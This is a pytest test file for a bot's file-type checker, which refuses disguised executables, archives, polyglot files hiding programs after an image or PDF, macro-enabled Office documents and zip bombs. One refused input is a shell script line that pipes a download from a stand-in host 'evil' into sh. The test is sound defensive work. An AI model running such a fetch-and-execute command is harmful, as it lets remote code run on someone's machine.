"""A file is what its content says, not what its name or a channel says: a renamed program
is refused, a zip hidden behind a photo is refused, a real voice note or document is taken."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile

import pytest
from PIL import ExifTags, Image

from bot.evidence import trailers
from bot.evidence.kinds import Kind, identify
from bot.evidence.refusals import Refusal
from tests.support import evidence as files


def _image(format_name: str, **options: object) -> bytes:
    out = io.BytesIO()
    files.picture().save(out, format_name, **options)
    return out.getvalue()


def _iso(brand: bytes, *boxes: bytes) -> bytes:
    return struct.pack(">I", 20) + b"ftyp" + brand + b"\x00\x00\x00\x00" + b"mif1" + b"".join(boxes)


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + kind + content


def _handler(kind: bytes) -> bytes:
    return _box(b"hdlr", b"\x00" * 8 + kind + b"\x00" * 12)


@pytest.mark.parametrize(
    ("data", "kind", "mime_type"),
    [
        (files.jpeg(files.gps_and_camera_exif()), Kind.IMAGE, "image/jpeg"),
        (files.png_with_text(), Kind.IMAGE, "image/png"),
        (_image("GIF"), Kind.IMAGE, "image/gif"),
        (_image("WEBP"), Kind.IMAGE, "image/webp"),
        (_iso(b"heic", _box(b"meta", b"\x00" * 8)), Kind.IMAGE, "image/heic"),
        (
            b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
            Kind.PDF,
            "application/pdf",
        ),
        (
            "Op 3 maart zei hij: ‘dat mag jij niet’.\n".encode(),
            Kind.TEXT,
            "text/plain; charset=utf-8",
        ),
        ("مديري يصرخ علي\r\n".encode("utf-16"), Kind.TEXT, "text/plain; charset=utf-16"),
        (b"MZ and the team met at 9.\n", Kind.TEXT, "text/plain; charset=utf-8"),
        (files.ogg_opus(), Kind.AUDIO, "audio/ogg"),
        (files.mp3(), Kind.AUDIO, "audio/mpeg"),
        (files.mp3(id3=True), Kind.AUDIO, "audio/mpeg"),
        (_iso(b"M4A ", _box(b"mdat", b"\x00" * 16)), Kind.AUDIO, "audio/mp4"),
        (_iso(b"mp42", _box(b"moov", _handler(b"soun"))), Kind.AUDIO, "audio/mp4"),
        (b"#!AMR\n" + b"\x3c" + b"\x00" * 31, Kind.AUDIO, "audio/amr"),
        (files.wav(), Kind.AUDIO, "audio/wav"),
        (
            files.docx(),
            Kind.DOCUMENT,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (files.odt(), Kind.DOCUMENT, "application/vnd.oasis.opendocument.text"),
        (files.compound_file(("WordDocument", 2)), Kind.DOCUMENT, "application/msword"),
        (files.compound_file(("Workbook", 2)), Kind.DOCUMENT, "application/vnd.ms-excel"),
    ],
)
def test_accepted_kinds_are_told_by_their_content(data: bytes, kind: Kind, mime_type: str):
    found = identify(data)
    assert (found.kind, found.mime_type, found.refusal) == (kind, mime_type, None)
    assert found.accepted


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("notes.txt")
        entry.size = 3
        archive.addfile(entry, io.BytesIO(b"abc"))
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "refusal"),
    [
        (files.zip_of({"verslag.txt": "tekst"}), Refusal.ARCHIVE),
        (gzip.compress(b"tekst", mtime=0), Refusal.ARCHIVE),
        (bz2.compress(b"tekst"), Refusal.ARCHIVE),
        (lzma.compress(b"tekst"), Refusal.ARCHIVE),
        (_tar(), Refusal.ARCHIVE),
        (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 20, Refusal.ARCHIVE),
        (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 20, Refusal.ARCHIVE),
        # 'photo.jpg' that is a program: the name never counts.
        (files.windows_program(), Refusal.EXECUTABLE),
        (files.linux_program(), Refusal.EXECUTABLE),
        (b"#!/bin/sh\ncurl evil | sh\n", Refusal.EXECUTABLE),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 20, Refusal.EXECUTABLE),
        (
            files.zip_of({"META-INF/MANIFEST.MF": "Main-Class: X\n", "X.class": b"\xca\xfe"}),
            Refusal.EXECUTABLE,
        ),  # fmt: skip
        (b"\x00\x01\x02binary junk\xff\xfe", Refusal.UNKNOWN),
        (b"hello \x1b[2J terminal escape", Refusal.UNKNOWN),
        (b"\xff\xfe\x00\x00" + "UTF-32".encode("utf-32-le"), Refusal.UNKNOWN),
        (_iso(b"mp42", _box(b"moov", _handler(b"vide") + _handler(b"soun"))), Refusal.UNKNOWN),
        (files.compound_file(("SummaryInformation", 2)), Refusal.UNKNOWN),
        (b"", Refusal.EMPTY),
    ],
)
def test_refused_kinds_each_say_why(data: bytes, refusal: Refusal):
    found = identify(data)
    assert found.refusal is refusal
    assert not found.accepted


def test_a_photo_with_a_zip_appended_is_a_polyglot():
    photo = files.jpeg()
    assert identify(photo).accepted
    found = identify(photo + files.zip_of({"payload.exe": files.windows_program()}))
    assert (found.kind, found.refusal) == (Kind.IMAGE, Refusal.POLYGLOT)


@pytest.mark.parametrize(
    "hidden",
    [
        files.windows_program(),
        files.linux_program(),
        b"Rar!\x1a\x07\x00" + b"\x00" * 10,
        b"\x00\x00\n" + files.zip_of({"a.txt": "x"}),
    ],
)
def test_images_pdfs_and_audio_with_a_file_after_their_end_are_polyglots(hidden: bytes):
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    for carrier in (files.jpeg(), files.png_with_text(), _image("GIF"), pdf, files.wav()):
        assert identify(carrier).accepted
        assert identify(carrier + hidden).refusal is Refusal.POLYGLOT


def test_a_zip_inside_a_pdf_before_its_last_eof_is_still_found():
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n"
    tampered = pdf + files.zip_of({"a.txt": "x"}) + b"\n%%EOF\n"
    assert identify(tampered).refusal is Refusal.POLYGLOT


def test_a_second_picture_after_a_photo_is_not_a_polyglot():
    # Phones append a depth map or preview (MPO) after the photo's end: not refused.
    assert identify(files.jpeg() + files.jpeg(size=(8, 8))).accepted


def test_an_end_marker_inside_the_exif_does_not_end_the_photo():
    # An EXIF thumbnail is a JPEG with an end marker of its own; the photo goes on after it.
    exif = Image.Exif()
    exif[ExifTags.Base.XPComment] = b"\xff\xd9\x00\x00"
    photo = files.jpeg(exif)
    assert photo.index(b"\xff\xd9") < len(photo) - 2
    assert trailers.jpeg_end(photo) == len(photo)
    assert identify(photo).accepted


@pytest.mark.parametrize(
    ("extra", "refusal"),
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, Refusal.MACRO),
        ({"word/activeX/activeX1.xml": "<ax/>"}, Refusal.MACRO),
        ({"word/embeddings/tool.exe": b"anything"}, Refusal.EXECUTABLE),
        ({"word/media/image1.png": files.windows_program()}, Refusal.EXECUTABLE),
        (
            {"word/embeddings/oleObject1.bin": files.compound_file(("\x01Ole10Native", 2))},
            Refusal.POLYGLOT,
        ),
    ],
)
def test_office_documents_with_macros_or_programs_inside_are_refused(
    extra: dict[str, bytes | str], refusal: Refusal
):
    found = identify(files.docx(extra))
    assert (found.kind, found.refusal) == (Kind.DOCUMENT, refusal)


def test_a_macro_enabled_content_type_is_refused():
    document = files.zip_of(
        {
            "[Content_Types].xml": files.CONTENT_TYPES.replace(
                "document.main+xml", "document.macroEnabled.main+xml"
            ),
            "word/document.xml": files.WORD_DOCUMENT,
        }
    )
    assert identify(document).refusal is Refusal.MACRO


def test_legacy_documents_with_macros_are_refused():
    found = identify(files.compound_file(("WordDocument", 2), ("Macros", 1), ("VBA", 1)))
    assert (found.kind, found.refusal) == (Kind.DOCUMENT, Refusal.MACRO)


def test_an_odf_whose_mimetype_is_not_first_is_an_archive():
    shuffled = files.zip_of(
        {"content.xml": "<x/>", "mimetype": "application/vnd.oasis.opendocument.text"}
    )
    assert identify(shuffled).refusal is Refusal.ARCHIVE


def test_an_office_document_that_unpacks_too_far_is_a_bomb(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("bot.evidence.containers.MAX_UNPACKED_BYTES", 1024 * 1024)
    inflated = files.docx({"word/media/blank.bin": b"\x00" * (2 * 1024 * 1024)})
    assert len(inflated) < 20_000
    assert identify(inflated).refusal is Refusal.BOMB


def test_a_damaged_zip_that_claims_to_be_a_document_is_damaged():
    document = files.docx()
    assert identify(document[: len(document) // 2]).refusal is Refusal.DAMAGED
